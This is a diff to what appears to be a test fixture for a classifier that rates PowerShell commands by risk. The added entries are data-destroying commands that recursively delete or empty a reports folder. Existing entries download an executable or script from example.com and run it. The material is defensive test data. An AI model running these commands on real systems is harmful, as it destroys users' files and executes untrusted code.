@@ -19,6 +19,11 @@ SHORTCUT = (
     '$s = (New-Object -ComObject WScript.Shell).CreateShortcut("{}\\\\notes.lnk"); $s.TargetPath = "a.exe"; $s.Save()'
 )
 FETCHED = [
+    ("ri -r -fo D:\\reports", "high"),
+    ("gci D:\\reports -r | % { $_.Delete() }", "high"),
+    ("Clear-Content D:\\reports\\*.txt", "high"),
+    ("Clear-Content D:\\reports\\one.txt", "medium"),
+    ('powershell -Command "Frobnicate"', "medium"),
     ("Invoke-WebRequest https://example.com/tool.exe -OutFile tool.exe; Start-Process .\\tool.exe", "high"),
     ('iwr https://example.com/t.exe -OutFile "$env:TEMP\\t.exe"\n$t = "$env:TEMP\\t.exe"\nStart-Process $t', "high"),
     ("(New-Object Net.WebClient).DownloadFile('https://example.com/t.ps1', 'C:\\t.ps1'); C:\\t.ps1", "high"),
